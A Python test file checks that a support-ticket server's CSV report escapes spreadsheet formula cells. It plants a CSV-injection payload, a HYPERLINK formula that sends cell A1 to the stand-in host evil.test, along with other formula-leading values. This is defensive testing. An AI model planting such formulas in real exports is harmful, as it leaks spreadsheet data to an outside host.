"""Input and output hardening through the real server: CSV cells that a
spreadsheet would evaluate, and the security headers of every HTML page."""
import csv
import io

from lib import Server

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'


def test_report_csv_neutralises_formula_cells():
    with Server() as s:
        assert s.post("/api/v1/accounts", {"name": "acme", "tier": "standard"}).status == 201
        assert s.post("/api/v1/users", {"email": "a@acme.test", "role": "customer", "account": "acme"}).status == 201
        for cat in (FORMULA, "@SUM(1+1)", "-2+3", "+cmd", "plain"):
            r = s.post("/api/v1/tickets", {"subject": "=1+1 subject", "category": cat,
                                           "requester": "a@acme.test"})
            assert r.status == 201, r
        q = "from=2000-01-01T00:00:00Z&to=2100-01-01T00:00:00Z&group_by=category"
        r = s.get(f"/api/v1/reports/kpis?{q}", headers={"Accept": "text/csv"})
        assert r.status == 200 and r.header("Content-Type").startswith("text/csv"), r
        rows = list(csv.DictReader(io.StringIO(r.body)))
        keys = sorted(row["key"] for row in rows if row["scope"] == "group")
        assert keys == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3", "'+cmd", "plain"]), keys
        # no cell of the whole file starts with a formula character
        for row in csv.reader(io.StringIO(r.body)):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), cell
        # numeric cells stay numbers
        created = [row for row in rows if row["scope"] == "all"][0]
        numeric = [v for k, v in created.items() if v and _number(v)]
        assert numeric, created


def _number(s):
    try:
        float(s)
        return True
    except ValueError:
        return False
